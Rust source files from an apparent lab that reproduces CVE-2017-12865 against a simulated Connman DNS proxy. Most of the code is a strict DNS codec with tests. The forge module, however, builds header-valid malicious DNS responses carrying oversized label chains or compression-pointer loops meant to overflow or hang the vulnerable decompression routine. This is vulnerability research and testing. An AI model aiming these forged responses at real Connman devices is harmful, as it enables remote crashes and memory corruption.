                write!(f, "reserved label-type bits in length byte {b:#04x}")
            }
            DnsError::UnsupportedType(t) => write!(f, "unsupported record type {t}"),
            DnsError::BadRdata { rtype, detail } => {
                write!(f, "malformed RDATA for type {rtype}: {detail}")
            }
            DnsError::MessageTooLarge { need, limit } => {
                write!(f, "message of {need} bytes exceeds limit of {limit}")
            }
            DnsError::TrailingBytes(n) => write!(f, "{n} trailing bytes after message"),
            DnsError::CountMismatch { section } => {
                write!(f, "header count disagrees with {section} section")
            }
        }
    }
}

impl Error for DnsError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_lowercase_and_unpunctuated() {
        let errors: Vec<DnsError> = vec![
            DnsError::Truncated { context: "header" },
            DnsError::LabelTooLong(70),
            DnsError::EmptyLabel,
            DnsError::NameTooLong(300),
            DnsError::InvalidLabelByte(0xff),
            DnsError::ForwardPointer { target: 9, at: 4 },
            DnsError::PointerLimit(10),
            DnsError::BadLabelType(0x80),
            DnsError::UnsupportedType(99),
            DnsError::BadRdata {
                rtype: 1,
                detail: "short",
            },
            DnsError::MessageTooLarge {
                need: 600,
                limit: 512,
            },
            DnsError::TrailingBytes(3),
            DnsError::CountMismatch { section: "answer" },
        ];
        for e in errors {
            let s = e.to_string();
            assert!(!s.is_empty());
            assert!(!s.ends_with('.'), "no trailing punctuation: {s}");
            let first = s.chars().next().unwrap();
            assert!(!first.is_uppercase(), "lowercase start: {s}");
        }
    }

    #[test]
    fn error_is_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<DnsError>();
    }
}
