//! Whole-message assembly and parsing.

use std::collections::HashMap;
use std::fmt;

use crate::header::{Header, Rcode};
use crate::question::Question;
use crate::record::Record;
use crate::wire::{WireBuf, WireReader, WireWriter};
use crate::DnsError;

/// A complete DNS message: header plus the four sections.
///
/// Construction goes through [`Message::query`] / [`Message::response_to`]
/// and the `push_*` methods, which keep the header counts consistent with
/// the section contents.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Message {
    header: Header,
    questions: Vec<Question>,
    answers: Vec<Record>,
    authorities: Vec<Record>,
    additionals: Vec<Record>,
}

impl Message {
    /// Creates a standard recursive query with one question.
    pub fn query(id: u16, question: Question) -> Self {
        let mut m = Message {
            header: Header {
                id,
                ..Header::default()
            },
            questions: Vec::new(),
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        };
        m.push_question(question);
        m
    }

    /// Creates an empty response echoing `query`'s id and question
    /// section, with the QR and RA bits set — the shape Connman's checks
    /// expect before it will parse answers.
    pub fn response_to(query: &Message) -> Self {
        let mut m = Message {
            header: Header {
                id: query.header.id,
                response: true,
                recursion_desired: query.header.recursion_desired,
                recursion_available: true,
                ..Header::default()
            },
            questions: Vec::new(),
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        };
        for q in &query.questions {
            m.push_question(q.clone());
        }
        m
    }

    /// Transaction id.
    pub fn id(&self) -> u16 {
        self.header.id
    }

    /// The header (counts always reflect the sections).
    pub fn header(&self) -> &Header {
        &self.header
    }

    /// Whether the QR bit marks this as a response.
    pub fn is_response(&self) -> bool {
        self.header.response
    }

    /// Sets the response code.
    pub fn set_rcode(&mut self, rcode: Rcode) {
        self.header.rcode = rcode;
    }

    /// Marks the message truncated (TC bit).
    pub fn set_truncated(&mut self, truncated: bool) {
        self.header.truncated = truncated;
    }

    /// Question section.
    pub fn questions(&self) -> &[Question] {
        &self.questions
    }

    /// Answer section.
    pub fn answers(&self) -> &[Record] {
        &self.answers
    }

    /// Authority section.
    pub fn authorities(&self) -> &[Record] {
        &self.authorities
    }

    /// Additional section.
    pub fn additionals(&self) -> &[Record] {
        &self.additionals
    }

    /// Appends a question, updating QDCOUNT.
    pub fn push_question(&mut self, q: Question) {
        self.questions.push(q);
        self.header.qdcount = self.questions.len() as u16;
    }

    /// Appends an answer record, updating ANCOUNT.
    pub fn push_answer(&mut self, r: Record) {
        self.answers.push(r);
        self.header.ancount = self.answers.len() as u16;
    }

    /// Appends an authority record, updating NSCOUNT.
    pub fn push_authority(&mut self, r: Record) {
        self.authorities.push(r);
        self.header.nscount = self.authorities.len() as u16;
    }

    /// Appends an additional record, updating ARCOUNT.
    pub fn push_additional(&mut self, r: Record) {
        self.additionals.push(r);
        self.header.arcount = self.additionals.len() as u16;
    }

    /// Encodes the message with name compression and no size ceiling.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] if any component fails to encode.
    pub fn encode(&self) -> Result<Vec<u8>, DnsError> {
        self.encode_with(WireWriter::new())
    }

    /// Encodes with a size ceiling (e.g. [`crate::MAX_UDP_MESSAGE`]).
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the ceiling is exceeded.
    pub fn encode_with_limit(&self, limit: usize) -> Result<Vec<u8>, DnsError> {
        self.encode_with(WireWriter::with_limit(limit))
    }

    /// [`encode`](Self::encode) into a reusable buffer: `out`'s
    /// contents are replaced, its capacity is kept, and a warm buffer
    /// makes the whole encode allocation-free (name compression aside).
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] if any component fails to encode.
    pub fn encode_into(&self, out: &mut WireBuf) -> Result<(), DnsError> {
        let w = WireWriter::from_vec(std::mem::take(out.as_mut_vec()));
        *out.as_mut_vec() = self.encode_with(w)?;
        Ok(())
    }

    fn encode_with(&self, mut w: WireWriter) -> Result<Vec<u8>, DnsError> {
        let mut offsets = HashMap::new();
        self.header.encode(&mut w)?;
        for q in &self.questions {
            q.encode(&mut w, &mut offsets)?;
        }
        for r in &self.answers {
            r.encode(&mut w, &mut offsets)?;
        }
        for r in &self.authorities {
            r.encode(&mut w, &mut offsets)?;
        }
        for r in &self.additionals {
            r.encode(&mut w, &mut offsets)?;
        }
        Ok(w.into_bytes())
    }

    /// Decodes a complete message, rejecting trailing bytes.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] describing the first malformation.
    pub fn decode(bytes: &[u8]) -> Result<Self, DnsError> {
        let mut r = WireReader::new(bytes);
        let m = Self::decode_from(&mut r)?;
        if !r.is_empty() {
            return Err(DnsError::TrailingBytes(r.remaining()));
        }
        Ok(m)
    }

    /// Decodes a message from a reader, leaving the cursor after it.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] describing the first malformation.
    pub fn decode_from(r: &mut WireReader<'_>) -> Result<Self, DnsError> {
        let header = Header::decode(r)?;
        let mut m = Message {
            header,
            questions: Vec::with_capacity(header.qdcount as usize),
            answers: Vec::with_capacity(header.ancount.min(64) as usize),
            authorities: Vec::new(),
            additionals: Vec::new(),
        };
        for _ in 0..header.qdcount {
            m.questions
                .push(Question::decode(r).map_err(|e| section_err(e, "question"))?);
        }
        for _ in 0..header.ancount {
            m.answers
                .push(Record::decode(r).map_err(|e| section_err(e, "answer"))?);
        }
        for _ in 0..header.nscount {
            m.authorities
                .push(Record::decode(r).map_err(|e| section_err(e, "authority"))?);
        }
        for _ in 0..header.arcount {
            m.additionals
                .push(Record::decode(r).map_err(|e| section_err(e, "additional"))?);
        }
        Ok(m)
    }
}

fn section_err(e: DnsError, section: &'static str) -> DnsError {
    match e {
        DnsError::Truncated { .. } => DnsError::CountMismatch { section },
        other => other,
    }
}

impl fmt::Display for Message {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            ";; id {} {} {} qd={} an={} ns={} ar={}",
            self.header.id,
            if self.header.response {
                "response"
            } else {
                "query"
            },
            self.header.rcode,
            self.header.qdcount,
            self.header.ancount,
            self.header.nscount,
            self.header.arcount
        )?;
        for q in &self.questions {
            writeln!(f, ";{q}")?;
        }
        for r in &self.answers {
            writeln!(f, "{r}")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::Name;
    use crate::record::{RecordData, RecordType};
    use std::net::Ipv4Addr;

    fn sample_query() -> Message {
        Message::query(
            0xABCD,
            Question::new(Name::parse("www.example.com").unwrap(), RecordType::A),
        )
    }

    #[test]
    fn query_roundtrip() {
        let q = sample_query();
        let bytes = q.encode().unwrap();
        let back = Message::decode(&bytes).unwrap();
        assert_eq!(back, q);
        assert!(!back.is_response());
    }

    #[test]
    fn response_echoes_question_and_id() {
        let q = sample_query();
        let mut resp = Message::response_to(&q);
        resp.push_answer(Record::new(
            Name::parse("www.example.com").unwrap(),
            120,
            RecordData::A(Ipv4Addr::new(93, 184, 216, 34)),
        ));
        let bytes = resp.encode().unwrap();
        let back = Message::decode(&bytes).unwrap();
        assert_eq!(back.id(), 0xABCD);
        assert!(back.is_response());
        assert_eq!(back.questions(), q.questions());
        assert_eq!(back.answers().len(), 1);
        assert_eq!(back.header().ancount, 1);
    }

    #[test]
    fn counts_track_sections() {
        let mut m = sample_query();
        m.push_answer(Record::new(
            Name::parse("a").unwrap(),
            0,
            RecordData::A(Ipv4Addr::UNSPECIFIED),
        ));
        m.push_authority(Record::new(
            Name::parse("b").unwrap(),
            0,
            RecordData::Ns(Name::parse("ns.b").unwrap()),
        ));
        m.push_additional(Record::new(
            Name::parse("c").unwrap(),
            0,
            RecordData::A(Ipv4Addr::LOCALHOST),
        ));
        let h = m.header();
        assert_eq!((h.qdcount, h.ancount, h.nscount, h.arcount), (1, 1, 1, 1));
    }

    #[test]
    fn trailing_bytes_rejected() {
        let mut bytes = sample_query().encode().unwrap();
        bytes.push(0xFF);
        assert_eq!(Message::decode(&bytes), Err(DnsError::TrailingBytes(1)));
    }

    #[test]
    fn count_mismatch_reported_per_section() {
        let mut m = sample_query();
        m.push_answer(Record::new(
            Name::parse("a").unwrap(),
            0,
            RecordData::A(Ipv4Addr::UNSPECIFIED),
        ));
        let mut bytes = m.encode().unwrap();
        // Claim two answers but provide one.
        bytes[7] = 2;
        assert_eq!(
            Message::decode(&bytes),
            Err(DnsError::CountMismatch { section: "answer" })
        );
    }

    #[test]
    fn udp_limit_enforced() {
        let mut m = sample_query();
        for i in 0..60 {
            m.push_answer(Record::new(
                Name::parse(&format!("host-{i}.example.com")).unwrap(),
                300,
                RecordData::A(Ipv4Addr::new(10, 0, 0, i as u8)),
            ));
        }
        assert!(matches!(
            m.encode_with_limit(crate::MAX_UDP_MESSAGE),
            Err(DnsError::MessageTooLarge { .. })
        ));
        assert!(m.encode().is_ok());
    }

    #[test]
    fn compression_round_trips_shared_names() {
        let q = sample_query();
        let mut resp = Message::response_to(&q);
        for i in 0..4 {
            resp.push_answer(Record::new(
                Name::parse("www.example.com").unwrap(),
                60 + i,
                RecordData::A(Ipv4Addr::new(1, 1, 1, i as u8)),
            ));
        }
        let bytes = resp.encode().unwrap();
        // All four answer owner names should be 2-byte pointers; a naive
        // encoding would repeat 17 bytes each.
        assert!(bytes.len() < 12 + 21 + 4 * (2 + 10 + 4) + 8);
        let back = Message::decode(&bytes).unwrap();
        assert_eq!(back.answers().len(), 4);
        assert_eq!(back.answers()[2].name().to_string(), "www.example.com");
    }
}
