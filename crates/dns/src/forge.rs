//! Forged-response construction: the attacker side of the wire.
//!
//! A forged response must pass the proxy's *header* checks (matching
//! transaction id, echoed question, QR bit, `NOERROR`) so that the
//! vulnerable decompression routine is reached at all — the paper notes
//! that Connman otherwise "dumps the packet as a bad response". Everything
//! after the question section, however, is raw attacker-controlled bytes:
//! the answer record's owner name is emitted as an arbitrary label chain
//! that can exceed every RFC limit.
//!
//! ```
//! use cml_dns::{forge::ResponseForge, Message, Name, Question, RecordType};
//!
//! # fn main() -> Result<(), cml_dns::DnsError> {
//! let query = Message::query(7, Question::new(Name::parse("a.b")?, RecordType::A));
//! let bytes = ResponseForge::answering(&query)
//!     .with_payload_labels(vec![vec![0x41; 63]; 20])?
//!     .build()?;
//! // 20 * 63 = 1260 decompressed bytes: past Connman's 1024-byte buffer.
//! assert!(bytes.len() > 1024);
//! # Ok(())
//! # }
//! ```

use std::net::Ipv4Addr;

use crate::message::Message;
use crate::name::MAX_LABEL_LEN;
use crate::record::{RecordClass, RecordType};
use crate::wire::{WireBuf, WireWriter};
use crate::DnsError;

/// How the forged answer's owner name terminates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NameTermination {
    /// A normal root byte (`0x00`) — the overflow vector used by all six
    /// PoCs.
    Root,
    /// A compression pointer to the given message offset. Pointing at the
    /// name's own start yields the classic decompression loop used for
    /// denial-of-service probing.
    Pointer(u16),
}

/// Builder for a header-plausible but malicious DNS response.
#[derive(Debug, Clone)]
pub struct ResponseForge {
    id: u16,
    question: Option<QuestionEcho>,
    labels: Vec<Vec<u8>>,
    termination: NameTermination,
    rtype: RecordType,
    ttl: u32,
    rdata: Vec<u8>,
    extra_answers_claimed: u16,
}

#[derive(Debug, Clone)]
struct QuestionEcho {
    wire: Vec<u8>,
}

impl ResponseForge {
    /// Starts a forge that answers `query`, copying its transaction id and
    /// echoing its question section verbatim.
    pub fn answering(query: &Message) -> Self {
        let mut w = WireWriter::new();
        // The echoed question encodes names uncompressed: a one-question
        // echo never benefits from compression, and it keeps offsets in
        // the forged record independent of compression state.
        for q in query.questions() {
            q.qname()
                .encode_uncompressed(&mut w)
                .expect("unbounded writer");
            w.write_u16(q.qtype().to_u16()).expect("unbounded writer");
            w.write_u16(q.qclass().to_u16()).expect("unbounded writer");
        }
        ResponseForge {
            id: query.id(),
            question: Some(QuestionEcho {
                wire: w.into_bytes(),
            }),
            labels: Vec::new(),
            termination: NameTermination::Root,
            rtype: RecordType::A,
            ttl: 120,
            rdata: vec![10, 13, 37, 1],
            extra_answers_claimed: 0,
        }
    }

    /// Starts a forge for a raw transaction id with no echoed question
    /// (used in tests that probe the proxy's header gate).
    pub fn for_id(id: u16) -> Self {
        ResponseForge {
            id,
            question: None,
            labels: Vec::new(),
            termination: NameTermination::Root,
            rtype: RecordType::A,
            ttl: 120,
            rdata: vec![10, 13, 37, 1],
            extra_answers_claimed: 0,
        }
    }

    /// Sets the answer owner name's label chain to exactly `labels`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`] or [`DnsError::LabelTooLong`] if a
    /// label violates the *wire-format* limits (those are enforced by the
    /// length-byte encoding itself; everything else is permitted).
    pub fn with_payload_labels(mut self, labels: Vec<Vec<u8>>) -> Result<Self, DnsError> {
        for l in &labels {
            if l.is_empty() {
                return Err(DnsError::EmptyLabel);
            }
            if l.len() > MAX_LABEL_LEN {
                return Err(DnsError::LabelTooLong(l.len()));
            }
        }
        self.labels = labels;
        Ok(self)
    }

    /// Sets the label chain by naively chunking `payload` into 63-byte
    /// labels. The decompressed buffer then contains `payload` with a
    /// length byte before every chunk — sufficient for crash probing, but
    /// exploit chains use `cml-exploit`'s layout solver instead.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`] if `payload` is empty.
    pub fn with_chunked_payload(self, payload: &[u8]) -> Result<Self, DnsError> {
        if payload.is_empty() {
            return Err(DnsError::EmptyLabel);
        }
        let labels = payload.chunks(MAX_LABEL_LEN).map(<[u8]>::to_vec).collect();
        self.with_payload_labels(labels)
    }

    /// Chooses how the malicious name terminates.
    pub fn terminate(mut self, termination: NameTermination) -> Self {
        self.termination = termination;
        self
    }

    /// Sets the answer record type (default `A`; the paper also uses
    /// `AAAA`).
    pub fn record_type(mut self, rtype: RecordType) -> Self {
        self.rtype = rtype;
        if self.rtype == RecordType::Aaaa && self.rdata.len() == 4 {
            self.rdata = vec![0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
        }
        self
    }

    /// Sets the answer TTL.
    pub fn ttl(mut self, ttl: u32) -> Self {
        self.ttl = ttl;
        self
    }

    /// Sets the RDATA bytes verbatim (RDLENGTH follows automatically).
    pub fn rdata(mut self, rdata: Vec<u8>) -> Self {
        self.rdata = rdata;
        self
    }

    /// Convenience: a plausible A-record address.
    pub fn a_address(self, addr: Ipv4Addr) -> Self {
        self.rdata(addr.octets().to_vec())
    }

    /// Inflates ANCOUNT beyond the records actually present (header-lying
    /// responses for count-mismatch tests).
    pub fn claim_extra_answers(mut self, extra: u16) -> Self {
        self.extra_answers_claimed = extra;
        self
    }

    /// Offset within the built message where the malicious answer name
    /// starts — useful for constructing self-referential pointers.
    pub fn answer_name_offset(&self) -> u16 {
        let qlen: usize = self.question.as_ref().map_or(0, |q| q.wire.len());
        (12 + qlen) as u16
    }

    /// Re-aims an already-configured forge at a new query without
    /// rebuilding it: replaces the transaction id and overwrites the
    /// echoed question section with `question_wire` (the query's raw
    /// question bytes — the proxy's own queries encode their single
    /// question uncompressed, so the echo is a verbatim copy). Labels,
    /// termination, TTL and claimed counts are kept; capacity of the
    /// stored echo is reused.
    pub fn retarget(&mut self, id: u16, question_wire: &[u8]) {
        self.id = id;
        match &mut self.question {
            Some(q) => {
                q.wire.clear();
                q.wire.extend_from_slice(question_wire);
            }
            None => {
                self.question = Some(QuestionEcho {
                    wire: question_wire.to_vec(),
                });
            }
        }
    }

    /// In-place companion to [`record_type`](Self::record_type) for
    /// forge reuse: sets the answer type and resets RDATA to that
    /// type's default (what a freshly constructed forge would carry).
    pub fn set_record_type(&mut self, rtype: RecordType) {
        self.rtype = rtype;
        self.rdata.clear();
        if rtype == RecordType::Aaaa {
            self.rdata
                .extend_from_slice(&[0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
        } else {
            self.rdata.extend_from_slice(&[10, 13, 37, 1]);
        }
    }

    /// Emits the forged response bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the result would exceed
    /// [`crate::MAX_PROXY_MESSAGE`].
    pub fn build(&self) -> Result<Vec<u8>, DnsError> {
        let mut out = WireBuf::new();
        self.encode_into(&mut out)?;
        Ok(out.into_vec())
    }

    /// [`build`](Self::build) into a reusable buffer: `out`'s contents
    /// are replaced, its capacity is kept, and a warm buffer makes the
    /// whole encode allocation-free.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the result would exceed
    /// [`crate::MAX_PROXY_MESSAGE`].
    pub fn encode_into(&self, out: &mut WireBuf) -> Result<(), DnsError> {
        let mut w = WireWriter::from_vec_with_limit(
            std::mem::take(out.as_mut_vec()),
            crate::MAX_PROXY_MESSAGE,
        );
        // Header: response, recursion available, NOERROR.
        w.write_u16(self.id)?;
        w.write_u16(0x8180)?;
        w.write_u16(if self.question.is_some() { 1 } else { 0 })?;
        w.write_u16(1 + self.extra_answers_claimed)?;
        w.write_u16(0)?;
        w.write_u16(0)?;
        if let Some(q) = &self.question {
            w.write_bytes(&q.wire)?;
        }
        // The malicious answer record.
        for label in &self.labels {
            w.write_u8(label.len() as u8)?;
            w.write_bytes(label)?;
        }
        match self.termination {
            NameTermination::Root => w.write_u8(0)?,
            NameTermination::Pointer(off) => w.write_u16(0xC000 | off)?,
        }
        w.write_u16(self.rtype.to_u16())?;
        w.write_u16(RecordClass::In.to_u16())?;
        w.write_u32(self.ttl)?;
        w.write_u16(self.rdata.len() as u16)?;
        w.write_bytes(&self.rdata)?;
        *out.as_mut_vec() = w.into_bytes();
        Ok(())
    }

    /// Total decompressed size the proxy will attempt to write into its
    /// name buffer: one length byte per label plus the label bytes
    /// (mirrors the vulnerable `get_name` accounting).
    pub fn decompressed_len(&self) -> usize {
        self.labels.iter().map(|l| l.len() + 1).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::Name;
    use crate::question::Question;
    use crate::record::RecordType;

    fn query() -> Message {
        Message::query(
            0x4242,
            Question::new(Name::parse("time.example.com").unwrap(), RecordType::A),
        )
    }

    #[test]
    fn forged_header_passes_strict_header_decode() {
        let bytes = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 200])
            .unwrap()
            .build()
            .unwrap();
        let mut r = crate::WireReader::new(&bytes);
        let h = crate::Header::decode(&mut r).unwrap();
        assert_eq!(h.id, 0x4242);
        assert!(h.response);
        assert_eq!(h.qdcount, 1);
        assert_eq!(h.ancount, 1);
    }

    #[test]
    fn strict_decoder_rejects_oversized_forged_name() {
        let bytes = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        // The strict message decoder must refuse what the vulnerable proxy
        // accepts: that asymmetry is the bug under study.
        assert!(Message::decode(&bytes).is_err());
    }

    #[test]
    fn small_forged_name_is_strictly_valid() {
        let bytes = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"evil".to_vec(), b"example".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        let m = Message::decode(&bytes).unwrap();
        assert_eq!(m.answers().len(), 1);
        assert_eq!(m.answers()[0].name().to_string(), "evil.example");
    }

    #[test]
    fn label_limits_enforced_at_wire_level() {
        assert!(matches!(
            ResponseForge::for_id(1).with_payload_labels(vec![vec![0x41; 64]]),
            Err(DnsError::LabelTooLong(64))
        ));
        assert!(matches!(
            ResponseForge::for_id(1).with_payload_labels(vec![vec![]]),
            Err(DnsError::EmptyLabel)
        ));
    }

    #[test]
    fn pointer_loop_termination() {
        let forge = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"loop".to_vec()])
            .unwrap();
        let off = forge.answer_name_offset();
        let bytes = forge
            .terminate(NameTermination::Pointer(off))
            .build()
            .unwrap();
        // The pointer targets the name's own start, so the strict decoder
        // chases it in a loop until the hop cap trips.
        assert!(matches!(
            Message::decode(&bytes),
            Err(DnsError::PointerLimit(_))
        ));
    }

    #[test]
    fn decompressed_len_counts_length_bytes() {
        let forge = ResponseForge::for_id(0)
            .with_payload_labels(vec![vec![0x41; 63], vec![0x42; 10]])
            .unwrap();
        assert_eq!(forge.decompressed_len(), 64 + 11);
    }

    #[test]
    fn aaaa_gets_16_byte_default_rdata() {
        let bytes = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"x".to_vec()])
            .unwrap()
            .record_type(RecordType::Aaaa)
            .build()
            .unwrap();
        let m = Message::decode(&bytes).unwrap();
        assert_eq!(m.answers()[0].rtype(), RecordType::Aaaa);
    }

    #[test]
    fn retargeted_forge_matches_fresh_forge() {
        let labels = vec![b"pay".to_vec(), b"load".to_vec()];
        let q2 = Message::query(
            0x9999,
            Question::new(Name::parse("other.example.com").unwrap(), RecordType::Aaaa),
        );
        let mut reused = ResponseForge::answering(&query())
            .with_payload_labels(labels.clone())
            .unwrap();
        let mut qwire = WireWriter::new();
        let qq = &q2.questions()[0];
        qq.qname().encode_uncompressed(&mut qwire).unwrap();
        qwire.write_u16(qq.qtype().to_u16()).unwrap();
        qwire.write_u16(qq.qclass().to_u16()).unwrap();
        reused.retarget(0x9999, qwire.as_bytes());
        reused.set_record_type(RecordType::Aaaa);
        let fresh = ResponseForge::answering(&q2)
            .with_payload_labels(labels.clone())
            .unwrap()
            .record_type(RecordType::Aaaa)
            .build()
            .unwrap();
        assert_eq!(reused.build().unwrap(), fresh);
        // And back: a later A query on the same forge must also match a
        // fresh forge (RDATA resets to the A default).
        let mut qwire = WireWriter::new();
        let q1 = query();
        let qq = &q1.questions()[0];
        qq.qname().encode_uncompressed(&mut qwire).unwrap();
        qwire.write_u16(qq.qtype().to_u16()).unwrap();
        qwire.write_u16(qq.qclass().to_u16()).unwrap();
        reused.retarget(0x4242, qwire.as_bytes());
        reused.set_record_type(RecordType::A);
        let fresh_a = ResponseForge::answering(&query())
            .with_payload_labels(labels)
            .unwrap()
            .build()
            .unwrap();
        assert_eq!(reused.build().unwrap(), fresh_a);
    }

    #[test]
    fn encode_into_matches_build_and_reuses_capacity() {
        let forge = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 200])
            .unwrap();
        let mut out = WireBuf::new();
        forge.encode_into(&mut out).unwrap();
        assert_eq!(out.as_bytes(), &forge.build().unwrap()[..]);
        let ptr = out.as_bytes().as_ptr();
        forge.encode_into(&mut out).unwrap();
        assert_eq!(out.as_bytes().as_ptr(), ptr, "warm buffer reused");
    }

    #[test]
    fn build_respects_proxy_ceiling() {
        let labels = vec![vec![0x41; 63]; 70]; // ~4.5 KiB
        let forge = ResponseForge::for_id(9)
            .with_payload_labels(labels)
            .unwrap();
        assert!(matches!(
            forge.build(),
            Err(DnsError::MessageTooLarge { .. })
        ));
    }
}
