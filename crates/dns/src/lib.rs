//! DNS wire-protocol substrate for `connman-lab`.
//!
//! This crate implements the subset of RFC 1035 (plus AAAA from RFC 3596)
//! that the reproduced paper exercises: full message encoding/decoding with
//! name compression, query construction, and — crucially — *response
//! forging*: building syntactically plausible DNS responses whose answer
//! names decompress to attacker-chosen byte streams of arbitrary length.
//! Those forged responses are what trigger CVE-2017-12865 in the simulated
//! Connman DNS proxy (`cml-connman`).
//!
//! The crate is intentionally split in two layers:
//!
//! * [`Message`], [`Question`], [`Record`], [`Name`] — a strict,
//!   validating model that refuses to *construct* malformed data. This is
//!   what well-behaved code (the proxy's own queries, the benign upstream
//!   server) uses.
//! * [`forge`] — an escape hatch that emits raw wire bytes which are
//!   header-valid (so the proxy accepts the packet and reaches the
//!   vulnerable decompression routine) but carry oversized or cyclic label
//!   chains.
//!
//! # Example
//!
//! ```
//! use cml_dns::{Message, Name, Question, RecordType};
//!
//! # fn main() -> Result<(), cml_dns::DnsError> {
//! let name = Name::parse("sensor.example.com")?;
//! let query = Message::query(0x1234, Question::new(name, RecordType::A));
//! let bytes = query.encode()?;
//! let back = Message::decode(&bytes)?;
//! assert_eq!(back.id(), 0x1234);
//! assert_eq!(back.questions()[0].qtype(), RecordType::A);
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod error;
pub mod forge;
mod header;
mod message;
mod name;
mod question;
mod record;
pub mod validate;
mod wire;
pub mod zone;

pub use error::DnsError;
pub use header::{Header, Opcode, Rcode};
pub use message::Message;
pub use name::{Label, Name, MAX_LABEL_LEN, MAX_NAME_LEN};
pub use question::Question;
pub use record::{Record, RecordClass, RecordData, RecordType};
pub use wire::{BufPool, WireBuf, WireReader, WireWriter};
pub use zone::{Zone, ZoneServer};

/// Maximum size of a DNS message carried over UDP without EDNS0, in bytes.
pub const MAX_UDP_MESSAGE: usize = 512;

/// Maximum size of a DNS message the forged-response path will emit.
///
/// Matches the receive buffer used by the simulated proxy (the real
/// Connman reads up to 4096 bytes from its upstream socket).
pub const MAX_PROXY_MESSAGE: usize = 4096;
