//! Property tests over the DNS wire codec.

use proptest::prelude::*;

use cml_dns::forge::ResponseForge;
use cml_dns::validate::gate_response;
use cml_dns::{
    Label, Message, Name, Question, Record, RecordData, RecordType, WireReader, WireWriter,
};

fn hostname() -> impl Strategy<Value = String> {
    // 1-4 labels of 1-12 [a-z0-9-] chars (no leading/trailing hyphen
    // rules enforced — our parser allows interior hyphens anywhere).
    proptest::collection::vec("[a-z][a-z0-9_-]{0,11}", 1..4).prop_map(|v| v.join("."))
}

fn record_data() -> impl Strategy<Value = RecordData> {
    prop_oneof![
        any::<[u8; 4]>().prop_map(|o| RecordData::A(o.into())),
        any::<[u8; 16]>().prop_map(|o| RecordData::Aaaa(o.into())),
        hostname().prop_map(|h| RecordData::Cname(Name::parse(&h).unwrap())),
        hostname().prop_map(|h| RecordData::Ns(Name::parse(&h).unwrap())),
        hostname().prop_map(|h| RecordData::Ptr(Name::parse(&h).unwrap())),
        (any::<u16>(), hostname()).prop_map(|(p, h)| RecordData::Mx {
            preference: p,
            exchange: Name::parse(&h).unwrap()
        }),
        proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..40), 1..4)
            .prop_map(RecordData::Txt),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Messages with arbitrary record mixes round-trip byte-exactly
    /// through encode → decode.
    #[test]
    fn message_roundtrip(
        id in any::<u16>(),
        qhost in hostname(),
        answers in proptest::collection::vec((hostname(), any::<u32>(), record_data()), 0..6),
        extras in proptest::collection::vec((hostname(), any::<u32>(), record_data()), 0..3),
    ) {
        let query = Message::query(id, Question::new(Name::parse(&qhost).unwrap(), RecordType::A));
        let mut resp = Message::response_to(&query);
        for (h, ttl, data) in answers {
            resp.push_answer(Record::new(Name::parse(&h).unwrap(), ttl, data));
        }
        for (h, ttl, data) in extras {
            resp.push_additional(Record::new(Name::parse(&h).unwrap(), ttl, data));
        }
        let bytes = resp.encode().unwrap();
        let back = Message::decode(&bytes).unwrap();
        prop_assert_eq!(back, resp);
    }

    /// Decoding arbitrary bytes is total: typed error or a message,
    /// never a panic.
    #[test]
    fn decode_total(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let _ = Message::decode(&bytes);
    }

    /// Compression never changes the decoded view and never grows the
    /// encoding beyond the uncompressed form.
    #[test]
    fn compression_sound_and_never_larger(
        hosts in proptest::collection::vec(hostname(), 1..6),
        suffix in hostname(),
    ) {
        let query = Message::query(
            9,
            Question::new(Name::parse(&format!("q.{suffix}")).unwrap(), RecordType::A),
        );
        let mut resp = Message::response_to(&query);
        for h in &hosts {
            // Shared suffix encourages pointer reuse.
            let name = Name::parse(&format!("{h}.{suffix}")).unwrap();
            resp.push_answer(Record::new(name, 60, RecordData::A([1, 2, 3, 4].into())));
        }
        let compressed = resp.encode().unwrap();
        // Reference: encode every name without compression.
        let mut w = WireWriter::new();
        resp.header().encode(&mut w).unwrap();
        for q in resp.questions() {
            q.qname().encode_uncompressed(&mut w).unwrap();
            w.write_u16(q.qtype().to_u16()).unwrap();
            w.write_u16(q.qclass().to_u16()).unwrap();
        }
        // (answers omitted — the question alone bounds nothing; compare
        // instead against total length with compression disabled via a
        // fresh encode of an equivalent message built from decoding.)
        let decoded = Message::decode(&compressed).unwrap();
        prop_assert_eq!(&decoded, &resp);
        prop_assert!(compressed.len() <= uncompressed_len(&resp));
    }

    /// The forge emits header-valid packets for any legal label chain,
